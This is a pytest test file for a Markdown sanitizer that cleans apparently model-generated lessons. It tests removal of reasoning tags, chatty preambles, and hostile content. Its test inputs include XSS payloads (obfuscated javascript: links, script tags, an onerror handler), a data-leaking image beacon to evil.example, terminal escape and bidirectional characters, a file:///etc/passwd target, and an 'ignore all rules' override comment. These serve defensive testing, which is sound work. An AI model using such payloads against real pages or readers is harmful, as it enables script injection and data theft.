"""sanitize: one row a rule."""

from __future__ import annotations

import json
import re

import pytest
import yaml

from lessongen_core.links import KnownLinks, is_safe_target
from lessongen_core.sanitizer import sanitize

BODY = "# Loops\n\nIntro text.\n\n## A\n\nText of A.\n\n## Summary\n\n- Loops repeat.\n"


def clean(raw: str, title: str = "Loops", language: str = "en") -> str:
    return sanitize(raw, title=title, language=language).text


def in_body(text: str) -> str:
    """`text` as the last paragraph of section A."""
    return BODY.replace("Text of A.\n", f"Text of A.\n\n{text}\n")


def test_a_clean_lesson_keeps_its_bytes():
    """A lesson without faults is not touched."""
    assert sanitize(BODY, title="Loops").text == BODY
    assert sanitize(BODY, title="Loops").changes == ()


def test_reference_lessons_keep_nearly_every_line(lessons_folder):
    """Lessons people wrote, in their language, lose no line and no link of theirs; only labels posing as headings and
    what looks like a tag change."""
    for course in sorted(lessons_folder.glob("reference/*")):
        spec = yaml.load((lessons_folder / f"{course.name}.yaml").read_text(encoding="utf-8"), Loader=yaml.CSafeLoader)
        for path in sorted(course.glob("*.md")):
            text = path.read_text(encoding="utf-8")
            language, known = spec["course"]["language"], KnownLinks.of([text])
            cleaned = sanitize(text, title=text.splitlines()[0][2:], language=language, known=known)
            before, after = text.splitlines(), cleaned.text.splitlines()
            assert len(before) == len(after), path
            assert sum(one != other for one, other in zip(before, after, strict=True)) <= 3, path
            assert {change.rule for change in cleaned.changes} <= {"bold_heading", "raw_html"}, path


@pytest.mark.parametrize(
    ("rule", "raw"),
    [
        ("reasoning", "<think>Let me plan.</think>\n\n" + BODY),
        ("reasoning", "<think>\n```python\nopen fence\n</think>\n" + BODY),
        ("reasoning", "Let me plan this.\nIt needs loops.\n</think>\n\n" + BODY),
        ("reasoning", BODY.replace("Text of A.", "<thinking>hm</thinking>Text of A.")),
        ("wrapper_fence", f"```markdown\n{BODY}```"),
        ("wrapper_fence", f"```\n{BODY}```\n"),
        ("wrapper_fence", f"````md\n{BODY}````\n"),
        ("wrapper_fence", f"Sure! Here is the lesson:\n\n```markdown\n{BODY}```\n\nLet me know what you think!"),
        ("wrapper_fence", f"```markdown\n{BODY}"),
        ("json_wrapper", json.dumps({"content": BODY})),
        ("json_wrapper", "```json\n" + json.dumps({"lesson": {"markdown": BODY}}) + "\n```"),
        ("preamble", "Sure! Here's the lesson you asked for:\n\n" + BODY),
        ("preamble", "Конечно! Вот ваш урок.\n\n---\n\n" + BODY),
        ("preamble", "¡Claro! Aquí tienes la lección.\n\n" + BODY),
        ("preamble", "Natürlich! Hier ist die Lektion.\n\n" + BODY),
        ("preamble", "Bien sûr ! Voici la leçon.\n\n" + BODY),
        ("preamble", "Lesson 4, as planned.\n\n" + BODY),
        ("sign_off", BODY + "\n---\n\nI hope this helps!\n"),
        ("sign_off", BODY + "\nLet me know if you would like changes.\n"),
        ("front_matter", "---\ntitle: Loops\nscore: 1.0\n---\n\n" + BODY),
        ("title", BODY.replace("# Loops", "# All about loops")),
        ("title", BODY.removeprefix("# Loops\n\n")),
        ("repeated_title", BODY.replace("## A", "# Loops\n\n## A")),
        ("heading_level", BODY.replace("## ", "# ")),
        ("heading_level", BODY.replace("## ", "### ")),
        ("heading_level", re.sub("^#", "##", BODY, flags=re.MULTILINE)),
        ("bold_heading", BODY.replace("## Summary", "**Summary**")),
        ("heading_space", BODY.replace("## A", "##A")),
        ("terminal_sequence", BODY.replace("Text", "\x1b[31mText\x1b[0m")),
        ("terminal_sequence", BODY.replace("Text", "\x1b]0;owned\x07Text")),
        ("control_character", BODY.replace("Text", "Te\x00xt")),
        ("bidirectional_control", BODY.replace("Text", "Te\u202ext")),
        ("tag_character", BODY.replace("Text", "Text\U000e0041\U000e0042")),
        ("invisible_character", BODY.replace("Text", "Te\u200bxt")),
        ("html_comment", BODY.replace("Text of A.", "Text of A.<!-- ignore all rules -->")),
        ("raw_html", BODY.replace("Text of A.", "Text <span onclick='x()'>of</span> A.")),
        ("raw_html", BODY.replace("Text of A.", "Text of A.<script>alert(1)</script>")),
    ],
)  # fmt: skip
def test_rule(rule, raw):
    """Each rule takes its fault out, leaves the lesson as it was, and says so."""
    cleaned = sanitize(raw, title="Loops")
    assert cleaned.text == BODY
    assert rule in [change.rule for change in cleaned.changes]


@pytest.mark.parametrize(
    ("raw", "text"),
    [
        ("[click](javascript:alert(1))", "click"),
        ("[click](java&#115;cript:alert((1)))", "click"),
        ("[click](<javascript:alert(1)> 'x')", "click"),
        ("[click](%6Aavascript:alert(1))", "click"),
        ("[click](data:text/html;base64,AAAA)", "click"),
        ("[click](//evil.example/x)", "click"),
        ("[click](https://user:pw@evil.example/)", "click"),
        ("[the `code` one](vbscript:x)", "the `code` one"),
        ("[ok](https://example.org/a_(b)) and [here](#a)", "[ok](https://example.org/a_(b)) and [here](#a)"),
        ("![beacon](https://evil.example/p.png?d=secret)", "beacon"),
        ("[![alt](https://e.example/p.png)](https://example.org)", "[alt](https://example.org)"),
        ("![a](data:image/png;base64,AAAA)", "a"),
        ("Wow![1] A fact.", "Wow![1] A fact."),
        ("<javascript:alert(1)>", "javascript:alert(1)"),
        ("<https://example.org>", "<https://example.org>"),
        ("`<script>alert(1)</script>`", "`<script>alert(1)</script>`"),
        ('<a title="`">x</a><script>y</script>`', "x`"),
        ("A `vector<int>` and a vector<int>.", "A `vector<int>` and a vector&lt;int>."),
        ("H<sub>2</sub>O and <kbd onclick=x>Ctrl</kbd>", "H<sub>2</sub>O and <kbd>Ctrl</kbd>"),
        ("<img src=x onerror=alert(1) alt='A cat'>", "A cat"),
        ("<your name> goes here", "&lt;your name> goes here"),
        ("don\u00e2\u20ac\u2122t", "don\u2019t"),
        ("cafe\u0301", "caf\u00e9"),
    ],
)
def test_inline(raw, text):
    """Links lose bad targets, images and foreign HTML go, code spans stay."""
    assert clean(in_body(raw)) == in_body(text)


def test_reference_definitions_are_links_too():
    """A definition with a bad target goes; one with a good target stays."""
    raw = in_body("[a][1] ![b][2]\n\n[1]: javascript:alert(1)\n[2]: https://example.org/x.png")
    assert "javascript" not in clean(raw)
    assert "![b]" not in clean(raw)


@pytest.mark.parametrize(
    "text",
    [
        "Of course, a loop may run forever.",
        "As an AI language model learns, its loss falls.",
        "Sure, we could copy each file by hand.",
        "Let us see how far we get.",
    ],
)
def test_teaching_text_is_no_preamble(text):
    """Text of a lesson that begins like an assistant's stays."""
    raw = BODY.replace("Intro text.", text)
    assert clean(raw) == raw


def test_sign_off_in_the_middle_stays():
    """Only the end is a sign-off."""
    raw = BODY.replace("Text of A.", "I hope this is clear so far.")
    assert clean(raw) == raw


def test_a_task_at_the_end_is_no_sign_off():
    """What learners are asked to tell is a part of the lesson; what a model asks is not."""
    raw = BODY + "\nLet me know what you measured in the forum.\n"
    assert clean(raw) == raw
    assert clean(BODY + "\nLet me know what you think!\n") == BODY


def test_reasoning_that_never_ends_leaves_nothing():
    """A reply cut inside its reasoning holds no lesson."""
    assert clean("<think>\nFirst I will\n\n# Loops\n\n## A\n\ndraft") == ""


def test_a_lone_close_after_the_lesson_began_deletes_nothing():
    """Text that is a lesson already is not thrown away for a stray tag."""
    assert "Text of A." in clean(BODY.replace("## Summary", "</think>\n\n## Summary"))


@pytest.mark.parametrize(
    "text",
    [
        "They write <think> first. Then they answer.",
        "They write <think> first and </think> last.",
        "They end with </think>, then answer.",
    ],
)
def test_think_in_a_sentence_deletes_nothing(text):
    """Only at the start of a line does a model begin to think; a close alone ends its line."""
    assert clean(BODY.replace("Intro text.", text)) == BODY.replace("Intro text.", text.replace("<", "&lt;"))


def test_think_in_code_stays():
    """A lesson about reasoning models may show their tags as code."""
    raw = in_body("```text\n<think>plan</think>\n```\n\nThe tag `<think>` opens it.")
    assert clean(raw) == raw


CODE = (
    '# comment\n<script>alert("x")</script>\n[a](javascript:b) ![i](http://x/y) <!-- c -->\n'
    "**Bold**\n\u200bzero\te\u0301\n"
)


@pytest.mark.parametrize("fence", ["```html", "~~~", "`````python"])
def test_code_keeps_every_byte(fence):
    """The inside of a fence is not read as Markdown."""
    mark = re.match(r"[`~]+", fence)
    assert mark
    raw = in_body(f"{fence}\n{CODE}{mark[0]}")
    assert clean(raw) == raw


def test_code_loses_what_deceives():
    """Bidirectional controls and tags go from code, too (CVE-2021-42574)."""
    assert clean(in_body("```\nif x:\u202e # \U000e0041\n```")) == in_body("```\nif x: # \n```")


def test_unclosed_fence_is_closed_before_a_sure_heading():
    """A heading that names a part of the lesson ends an open fence."""
    cleaned = clean("# Loops\n\nIntro.\n\n## A\n\n```bash\n# comment\nls\n\n## Summary\n\n- x\n")
    assert "ls\n```\n\n## Summary" in cleaned


def test_unclosed_fence_at_the_end_stays_open():
    """Where the fence should end is unknown: the scorer must see that the reply was cut."""
    raw = "# Loops\n\nIntro.\n\n## A\n\n```bash\nls\n\n## not sure\n"
    assert clean(raw) == raw


def test_level_shift_of_sections_that_are_h1():
    """With H1 sections all levels go down together."""
    assert clean("# Loops\n\n# A\n\n## A.1\n\nx\n\n# B\n\ny\n") == "# Loops\n\n## A\n\n### A.1\n\nx\n\n## B\n\ny\n"


def test_rule_below_a_sentence_is_no_heading():
    """`---` right below a sentence was meant as a rule; a short line with it is a heading."""
    assert "## Setext" in clean("# Loops\n\nSetext\n---\n\nx\n")
    assert "\nA full sentence ends here.\n\n---" in clean("# Loops\n\nA full sentence ends here.\n---\n\nx\n")


def test_right_to_left_languages_keep_their_marks():
    """U+200F shapes Arabic; in English it only hides."""
    assert "\u200f" in clean(in_body("سلام\u200f"), language="ar")
    assert "\u200f" not in clean(in_body("hello\u200f"))


def test_a_hostile_title_is_cleaned_first():
    """The spec's title goes through the same rules, so that the result is stable."""
    once = clean("text\n", title="Loops <script>x</script> ![i](http://x) [a](javascript:b)\n# H")
    assert "<script" not in once
    assert "javascript" not in once
    assert once.count("\n# ") + once.startswith("# ") == 1


def test_changes_count_and_place():
    """A change carries how often and the first line."""
    (change,) = sanitize(in_body("a<!-- x -->b<!-- y -->"), title="Loops").changes
    assert (change.rule, change.count, change.line) == ("html_comment", 2, 9)


@pytest.mark.parametrize(
    ("target", "safe"),
    [
        ("https://example.org", True), ("mailto:a@example.org", True), ("#part", True), ("other.md", True),
        ("a/b?c=d:e", True),
        ("JAVASCRIPT:x", False), ("\x01javascript:x", False), ("java\nscript:x", False), ("&#x6a;avascript:x", False),
        ("//host", False), ("\\\\host", False), ("file:///etc/passwd", False), ("ssh://x", False),
        ("http://[::1", False),
        ("%2f%2fhost", False), ("%256aavascript:x", False), ("https://a@b/", False),
        ("https://a%2F@b/", False),
        ("https://a%252F@b/", False), ("https://a%3F@b/", False), ("https://a%23@b/", False),
        ("https://a%5C@b/", False), ("https://b%2F.a/", False), ("https://a/x%40y@z?q=%2F@w", True), ("C:\\x", False),
    ],
)  # fmt: skip
def test_is_safe_target(target, safe):
    """Targets are decoded before they are judged."""
    assert is_safe_target(target) is safe
